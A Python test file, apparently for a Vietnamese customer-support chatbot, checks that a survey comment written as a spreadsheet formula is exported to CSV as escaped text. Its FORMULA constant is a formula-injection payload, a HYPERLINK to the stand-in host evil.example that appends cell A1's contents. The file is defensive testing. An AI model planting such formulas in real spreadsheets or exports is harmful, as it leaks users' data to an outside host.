"""A customer's comment that is a spreadsheet formula leaves the product as text, never as a formula."""

from __future__ import annotations

import csv
import subprocess
import sys
import uuid
from pathlib import Path

from harness import PROJECT, Assistant
from harness import reply_text as texts

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def test_a_formula_comment_is_exported_as_text(guarded: Assistant, tmp_path: Path) -> None:
    sender = f"sec-export-{uuid.uuid4().hex[:6]}"
    assert "bảo hành" in texts(guarded.chat(sender, "sản phẩm được bảo hành bao lâu vậy shop")).lower()
    guarded.chat(sender, "/faq_resolved")
    guarded.chat(sender, '/survey_answer{"score": 4}')
    guarded.chat(sender, "khá dễ")
    assert "cảm ơn" in texts(guarded.chat(sender, FORMULA)).lower()

    out = tmp_path / "surveys.csv"
    command = [sys.executable, "-m", "vietcx", "export", "surveys", "--format", "csv", "--out", str(out)]
    done = subprocess.run(command, cwd=PROJECT, env=guarded.env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        comments = [row["comment"] for row in csv.DictReader(handle)]
    assert "'" + FORMULA in comments
    assert not any(c.startswith(("=", "+", "-", "@")) for c in comments)
